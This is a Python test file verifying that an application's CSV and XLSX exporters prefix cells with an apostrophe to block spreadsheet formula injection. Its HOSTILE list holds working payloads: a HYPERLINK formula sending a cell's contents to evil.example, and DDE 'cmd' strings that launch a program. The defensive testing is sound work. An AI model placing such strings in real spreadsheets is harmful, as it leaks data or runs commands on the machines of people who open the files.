"""Exports never carry live spreadsheet formulas (issue 14, CSV/formula injection).

A document title and a quoted value are written by whoever wrote the document; a cell
beginning with = + - @, tab or CR would run in Excel or LibreOffice when the export is
opened. The real exporters are run and the files they write are read back raw.
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import openpyxl

from app.tasks.export import neutralise, to_csv, to_xlsx
from app.tasks.extract import Cell, Grid, Row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _grid() -> Grid:
    rows = [
        Row(
            f"doc-{n}",
            text,  # the document title
            {
                "law": Cell(text, text, 1, "supported"),
                "amount": Cell("-1,250.50", "minus 1,250.50", 2, "supported"),
            },
        )
        for n, text in enumerate(HOSTILE)
    ]
    return Grid("test", [("law", "=Governing law"), ("amount", "Amount")], rows)


def test_neutralise() -> None:
    assert [neutralise(t)[0] for t in HOSTILE] == ["'"] * len(HOSTILE)
    assert neutralise("Oklahoma") == "Oklahoma"
    assert neutralise("-5") == "-5" and neutralise("+1,200.50") == "+1,200.50"
    assert neutralise(13) == 13 and neutralise(None) is None


def test_csv_cells_cannot_start_a_formula(tmp_path: Path) -> None:
    with to_csv(_grid(), tmp_path / "g.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    leads = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for value in row:
            assert not value.startswith(leads) or value == "-1,250.50", value
    header = rows[0]
    assert header[2] == "'=Governing law"
    titles = [row[1] for row in rows[1:]]
    assert titles == ["'" + t for t in HOSTILE]
    assert rows[1][2] == "'" + HOSTILE[0]  # the value keeps its text after the apostrophe


def test_xlsx_has_no_formula_cells(tmp_path: Path) -> None:
    path = to_xlsx(_grid(), tmp_path / "g.xlsx")
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                xml = book.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    loaded = openpyxl.load_workbook(path)
    for sheet in loaded.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    grid_sheet = loaded["Grid"]
    assert grid_sheet.cell(2, 2).value == "'" + HOSTILE[0]
    assert grid_sheet.cell(1, 3).value == "'=Governing law"
    assert grid_sheet.cell(2, 4).value == "-1,250.50"
